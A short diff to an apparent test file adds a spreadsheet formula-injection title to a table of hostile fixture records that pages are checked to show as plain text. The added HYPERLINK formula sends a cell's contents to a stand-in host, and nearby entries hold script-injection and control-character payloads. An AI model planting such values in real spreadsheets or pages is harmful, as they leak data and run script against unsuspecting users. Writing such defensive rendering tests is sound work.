@@ -113,6 +113,7 @@ test("a bad query says where, a CLI-only query says so", async () => {
 /** The titles of the hostile records (tests/fixtures/hostile), as pages show them: markup as
  *  text, control characters and bidi overrides as visible escapes. */
 const HOSTILE_TITLES = {
+  "CSV-1": '=HYPERLINK("https://evil.example/?leak="&A1,"open me") hostile spreadsheet cells',
   "CTRL-1": String.raw`CTRL-1 \u{0}nul \u{1b}[31mred\u{1b}[0m \u{202e}gnp.exe\u{202c} \u{9b}2J hostile controls`,
   "XSS-1": "<script>window.__pwned = 1</script> hostile markup",
   "XSS-2": '"><svg onload=window.__pwned=3> hostile title',
